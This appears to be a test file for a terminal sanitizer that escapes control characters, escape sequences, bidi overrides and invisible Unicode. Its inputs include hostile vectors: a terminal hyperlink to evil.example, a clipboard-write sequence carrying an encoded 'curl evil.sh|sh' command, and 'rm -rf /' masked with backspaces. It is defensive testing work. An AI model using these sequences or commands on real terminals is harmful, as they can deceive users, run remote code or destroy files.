import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { PROPERTY_TIMEOUT, runs } from "../../test/helpers/property.js";
import { isVariationSelector } from "../domain/invisible-characters.js";
import { hasUnsafeCharacters, sanitizeLine, sanitizeText } from "./sanitize.js";

describe("terminal sanitizer", () => {
  it.each([
    ["plain text", "Fix login", "Fix login"],
    ["escape sequences become visible", "\x1b]0;PWNED\x07\x1b[2J", "\\x1b]0;PWNED\\x07\\x1b[2J"],
    ["carriage return", "safe text\rEVIL", "safe text\\rEVIL"],
    ["C1 control", "a\u009bb", "a\\x9bb"],
    ["bidi override", "invoice\u202Egpj.exe", "invoice<U+202E>gpj.exe"],
    ["zero-width space", "ad\u200Bmin", "ad<U+200B>min"],
    ["newline on one line", "a\nb", "a\\nb"],
    ["lone surrogate", "a\ud800b", "a<U+D800>b"],
    ["emoji pair kept", "ship 🚀", "ship 🚀"],
    ["tag characters spelling hidden text", "Fix\u{e0069}\u{e0067}\u{e006e}", "Fix<U+E0069><U+E0067><U+E006E>"],
    ["word joiner", "bob\u2060", "bob<U+2060>"],
    ["soft hyphen", "ad\u00admin", "ad<U+00AD>min"],
    ["Mongolian vowel separator", "a\u180eb", "a<U+180E>b"],
    ["combining grapheme joiner", "a\u034fb", "a<U+034F>b"],
    ["Hangul filler", "\u3164", "<U+3164>"],
    ["an emoji's variation selector kept", "love \u2764\ufe0f", "love \u2764\ufe0f"],
    ["a run of variation selectors (a hidden payload) shown after the first", "\u{1f600}\u{e0100}\u{e0148}\ufe01", "\u{1f600}\u{e0100}<U+E0148><U+FE01>"],
  ])("sanitizeLine: %s", (_name, input, expected) => {
    expect(sanitizeLine(input)).toBe(expected);
  });

  it("keeps newlines and tabs in text blocks, normalises CRLF, escapes the rest", () => {
    expect(sanitizeText("a\r\nb\tc\x1b[31m")).toBe("a\nb\tc\\x1b[31m");
  });
});

describe("terminal sanitizer on any input", () => {
  // An oracle written apart from the implementation: by category, plus the few named ones.
  const hidden = /[\p{Cc}\p{Cf}\p{Cs}\u034f\u115f\u1160\u17b4\u17b5\u2028\u2029\u2065\u3164\uffa0\u{e0000}-\u{e007f}]/u;
  const selector = /[\u180b-\u180d\u180f\ufe00-\ufe0f\u{e0100}-\u{e01ef}]/u;
  // A selector that follows nothing visible: at the start, or after a hidden character or another selector.
  const strandedSelector = new RegExp(`(^|${hidden.source}|${selector.source})${selector.source}`, "u");
  const anyText = fc.oneof(
    fc.string({ unit: fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)), maxLength: 40 }),
    fc.string({ unit: "binary", maxLength: 40 }),
    fc.string({ unit: fc.constantFrom("a", "\u2764", "\ufe0f", "\u{e0100}", "\u{e0041}", "\u2060", "\n", "\t"), maxLength: 12 }),
  );

  it("never lets a hidden character or a stranded variation selector through, and keeps safe text as is", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const line = sanitizeLine(text);
        expect(line).not.toMatch(hidden);
        expect(line).not.toMatch(strandedSelector);
        expect(sanitizeText(text).replace(/[\n\t]/g, "")).not.toMatch(hidden);
        const safe = !hidden.test(text) && !strandedSelector.test(text);
        if (safe) expect(line).toBe(text);
        expect(hasUnsafeCharacters(text)).toBe(!safe);
      }),
      runs(300),
    );
  }, PROPERTY_TIMEOUT);
});

describe("terminal sanitizer: the hostile vectors of reliability.md T1-T6, exactly", () => {
  it.each([
    ["T1 title and clear screen", "\x1b]0;PWNED\x07\x1b[2J", "\\x1b]0;PWNED\\x07\\x1b[2J"],
    ["T2 OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\Fix login\x1b]8;;\x1b\\", "\\x1b]8;;https://evil.example/\\x1b\\Fix login\\x1b]8;;\\x1b\\"],
    ["T3 OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07", "\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07"],
    ["T4 a sequence that reappears when stripped", "\x1b\x1b[0m[2J", "\\x1b\\x1b[0m[2J"],
    ["T4 an unterminated OSC", "x\x1b]0;no terminator", "x\\x1b]0;no terminator"],
    ["T5 carriage return", "safe text\rEVIL", "safe text\\rEVIL"],
    ["T5 backspaces", "rm -rf /\b\b\bls", "rm -rf /\\x08\\x08\\x08ls"],
    ["T6 bidi override", "invoice\u202egpj.exe", "invoice<U+202E>gpj.exe"],
    ["T6 isolates, marks, zero-width, BOM", "\u2066a\u2069\u200e\u200f\u061c\u200b\u200d\ufeff", "<U+2066>a<U+2069><U+200E><U+200F><U+061C><U+200B><U+200D><U+FEFF>"],
    ["C1 CSI", "a\u009b31mb", "a\\x9b31mb"],
    ["line separators", "a\u2028b\u2029c", "a<U+2028>b<U+2029>c"],
  ])("%s", (_name, input, output) => {
    expect(sanitizeLine(input)).toBe(output);
  });
});

describe("terminal sanitizer: structure on any input", () => {
  const NAMED: Record<string, string> = { n: "\n", r: "\r", t: "\t" };
  // Every escape back to its character: what was hidden is all still there.
  const decode = (text: string): string =>
    text.replace(/\\x([0-9a-f]{2})|\\([nrt])|<U\+([0-9A-F]{4,6})>/g, (_all, byte?: string, named?: string, code?: string) =>
      byte !== undefined ? String.fromCharCode(parseInt(byte, 16)) : named !== undefined ? (NAMED[named] ?? "") : String.fromCodePoint(parseInt(code ?? "0", 16)),
    );
  const codePoints = fc.string({ unit: "binary", maxLength: 30 });
  const escapes = fc.array(fc.constantFrom("\x1b", "[", "]", "0;", "2J", "\x07", "\\", "m", "\r", "\n", "\t", "\u202e", "\u009b", "x", "\u{e0041}", "\ufe0f", "\u2764", "<U+", ">"), { maxLength: 12 }).map((parts) => parts.join(""));
  const text = fc.oneof(codePoints, escapes);

  it("escapes character by character: no sequence survives or forms across a boundary (T4), and a second pass changes nothing", () => {
    fc.assert(
      fc.property(text, text, (a, b) => {
        // A variation selector depends on the character before it; anything else stands alone.
        if (!isVariationSelector([...b][0] ?? "")) expect(sanitizeLine(a + b)).toBe(sanitizeLine(a) + sanitizeLine(b));
        expect(sanitizeLine(sanitizeLine(a))).toBe(sanitizeLine(a));
        expect(sanitizeText(sanitizeText(a))).toBe(sanitizeText(a));
      }),
      runs(500),
    );
  }, PROPERTY_TIMEOUT);

  it("hides nothing: every character of the input is still there, itself or as its escape", () => {
    fc.assert(
      fc.property(text, (input) => {
        const shown = sanitizeLine(input);
        expect(shown.length).toBeGreaterThanOrEqual(input.length);
        expect(decode(shown)).toBe(decode(input));
      }),
      runs(500),
    );
  }, PROPERTY_TIMEOUT);
});
